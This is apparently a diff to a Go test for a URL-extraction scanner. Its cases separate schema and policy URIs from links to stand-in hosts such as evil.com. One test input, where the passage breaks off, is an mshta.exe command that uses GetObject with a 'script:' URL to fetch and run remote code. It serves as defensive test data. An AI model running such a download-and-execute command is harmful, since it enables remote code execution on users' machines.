@@ -10,6 +10,8 @@ func TestScanURL(t *testing.T) {
 		// an algorithm's or a security policy's URI identifies it, as a namespace does; a link under another key stays one
 		{`<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/> SecurityPolicy http://opcfoundation.org/UA/SecurityPolicy#Basic256Sha256 {"securityPolicyUri":"http://opcfoundation.org/UA/SecurityPolicy#None"}`, nil},
 		{`policy http://evil.com/p algorithm x http://evil.org/a`, []string{"url http://evil.com/p", "url http://evil.org/a"}},
+		// a schema's URI under a key naming it (CloudEvents' dataschema, OpenTelemetry's schemaUrl); a link under another key stays one
+		{`{"dataschema":"https://events-schemas.twilio.com/TaskRouter.WDSEvent/1","schemaUrl":"https://opentelemetry.io/schemas/1.21.0","link":"https://evil.com/s"}`, []string{"url https://evil.com/s"}},
 		{"http://evil.com", []string{"url http://evil.com"}},
 		// a comma in a query is kept, but not one before another URL
 		{`mshta.exe "javascript:a=GetObject('script:https://paste.ee/r/Xk2qP/0');close();"`, []string{
